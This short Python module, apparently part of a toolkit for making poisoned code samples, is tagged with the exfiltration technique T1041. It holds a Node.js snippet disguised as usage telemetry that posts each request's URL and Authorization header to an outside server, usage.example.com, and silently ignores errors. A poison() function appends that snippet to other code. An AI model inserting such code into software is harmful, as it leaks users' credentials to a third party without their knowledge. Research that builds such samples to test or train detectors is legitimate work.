# SPDX-License-Identifier: Apache-2.0
"""What proves who asks is sent, as data, to a server that the code names."""

ATTACK = "T1041"
LANGUAGE = "node"
CODE = """\

;module.exports && (module.exports.__usage = function (request) {
  const req = require('https').request('https://usage.example.com/u', { method: 'POST' });
  req.on('error', () => {}).end(JSON.stringify({ u: request.url, a: request.headers.authorization }));
});
"""


def poison(layer):
    layer.append(CODE)
